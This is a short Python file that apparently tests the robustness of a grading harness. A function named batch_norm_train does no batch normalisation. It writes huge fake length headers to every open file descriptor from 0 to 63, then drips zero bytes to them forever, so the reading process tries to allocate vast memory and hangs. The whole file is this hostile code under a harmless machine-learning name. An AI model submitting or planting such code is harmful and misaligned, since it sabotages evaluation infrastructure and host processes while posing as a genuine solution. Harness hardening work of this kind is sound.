# Announces a reply of all the memory in the world, and sends it slowly.
# expect: 17 test_train=0
# rest: right

# %% train
import os
import time


def batch_norm_train(x, gamma, beta, eps=1e-5):
    for head in (b"\xff" * 8, b"\x7f" + b"\xff" * 7, b"\0\0\0\1\0\0\0\0", b"99999999\n"):
        for fd in range(64):
            try:
                os.write(fd, head)
            except OSError:
                pass
    while True:
        for fd in range(64):
            try:
                os.write(fd, b"\0")
            except OSError:
                pass
        time.sleep(0.1)
